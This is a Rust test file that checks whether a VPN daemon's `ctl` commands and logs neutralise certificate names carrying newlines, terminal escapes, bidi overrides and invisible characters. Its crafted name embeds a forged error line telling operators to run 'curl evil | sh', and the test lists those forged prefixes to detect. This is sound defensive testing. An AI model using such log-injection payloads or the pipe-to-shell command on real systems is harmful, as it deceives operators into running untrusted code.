//! Names and groups in certificates with line feeds, colours and characters that nobody sees: what `nebula ctl` and
//! the log print of them stays what this host says, and one line. On loopback, without devices or privileges.

use std::process::Command;
use std::time::{Duration, Instant};

use nebula_cert::is_visible;

use crate::loopback::{Daemon, Network, free_udp_port, ours};

/// A finding with advice, as `nebula ctl doctor` prints its own; in the other direction, and with nothing in between.
const NAME: &str =
    "web\nERROR: 10.42.0.1: run this [stolen]\n    curl evil | sh\r\u{1b}[31m\u{202e}\u{200b}\u{3164}\u{2028}x";
const GROUP: &str = "ops\nwarning: group\u{2066}\u{feff}";

/// A lighthouse, a member of the network, and somebody with a certificate of a CA of their own.
struct Site {
    _network: Network,
    _rogue_network: Network,
    sockets: tempfile::TempDir,
    lighthouse: Daemon,
    _member: Daemon,
    _rogue: Daemon,
}

impl Site {
    fn start(log: &str) -> Self {
        let (network, rogue_network, port) = (Network::new(), Network::new(), free_udp_port());
        let sockets = tempfile::tempdir().unwrap();
        let socket = sockets.path().join("lighthouse").display().to_string();
        let lighthouse = network.start(
            &ours(),
            "lighthouse",
            &["10.42.0.1/16"],
            &format!(
                "listen: {{host: 127.0.0.1, port: {port}}}\nlighthouse: {{am_lighthouse: true}}\n\
                 daemon: {{control_socket: {socket}}}\nlogging: {{level: debug, format: {log}}}"
            ),
        );
        let settings = format!(
            "listen: {{host: 127.0.0.1}}\nstatic_host_map: {{10.42.0.1: ['127.0.0.1:{port}']}}\n\
             lighthouse: {{hosts: [10.42.0.1], interval: 1}}\ndaemon: {{control_socket: false}}"
        );
        let member = network.start_as(&ours(), "member", NAME, &[GROUP], &["10.42.0.7/16"], &settings);
        let rogue = rogue_network.start_as(&ours(), "rogue", NAME, &[GROUP], &["10.42.0.8/16"], &settings);
        let site = Self {
            _network: network,
            _rogue_network: rogue_network,
            sockets,
            lighthouse,
            _member: member,
            _rogue: rogue,
        };
        let until = Instant::now() + Duration::from_secs(20);
        while !(site.ctl(&["peers"]).contains("10.42.0.7") && site.ctl(&["doctor"]).contains("unknown_ca")) {
            assert!(Instant::now() < until, "{}\n{}", site.ctl(&["doctor"]), site.lighthouse.log());
            std::thread::sleep(Duration::from_millis(50));
        }
        site
    }

    /// What a command prints, on both streams.
    fn ctl(&self, words: &[&str]) -> String {
        let mut command = Command::new(ours());
        command.arg("ctl").arg("--socket").arg(self.sockets.path().join("lighthouse")).args(words);
        let output = command.output().unwrap();
        [output.stdout, output.stderr].map(|text| String::from_utf8(text).unwrap()).concat()
    }
}

fn check(what: &str, text: &str) {
    assert!(text.chars().all(|c| c == '\n' || is_visible(c)), "{what}: {text:?}");
    for line in text.lines() {
        let line = line.trim_start();
        let is_forged = ["ERROR: 10.42.0.1: run this", "curl evil", "warning: group"];
        assert!(!is_forged.iter().any(|forged| line.starts_with(forged)), "{what}: {text}");
    }
}

#[test]
fn no_name_of_a_member_or_a_stranger_adds_a_line_or_hides_one() {
    let site = Site::start("text");
    let mut shown = 0;
    for words in [
        &["doctor"][..],
        &["status"],
        &["peers"],
        &["gateways"],
        &["tunnel", "10.42.0.7"],
        &["why", "10.42.0.7"],
        &["why", "10.42.0.8"],
        &["query", "10.42.0.7"],
        &["trace", "tcp", "10.42.0.7:443"],
        &["whois", "10.42.0.7:443"],
        &["cert"],
        &["tunnel", NAME],
        &["query", NAME],
        &["whois", GROUP],
    ] {
        let text = site.ctl(words);
        check(words[0], &text);
        // What is not shown proves nothing.
        shown += usize::from(text.contains("run this"));
        let json = site.ctl(&[words, &["--json"]].concat());
        check(words[0], &json);
        if let Ok(document) = serde_json::from_str::<serde_json::Value>(&json)
            && words == ["peers"]
        {
            assert_eq!(document["peers"][0]["name"], NAME, "for programs it is the same name");
        }
    }
    assert!(shown >= 4, "{shown} of the commands show the name");
    let log = site.lighthouse.log();
    assert!(log.contains("run this"), "{log}");
    check("log", &log);
}

#[test]
fn no_name_adds_a_line_to_the_log_in_json() {
    let site = Site::start("json");
    let log = site.lighthouse.log();
    assert!(log.contains("run this"), "{log}");
    check("log", &log);
    for line in log.lines() {
        assert!(serde_json::from_str::<serde_json::Value>(line).is_ok(), "{line}");
    }
}
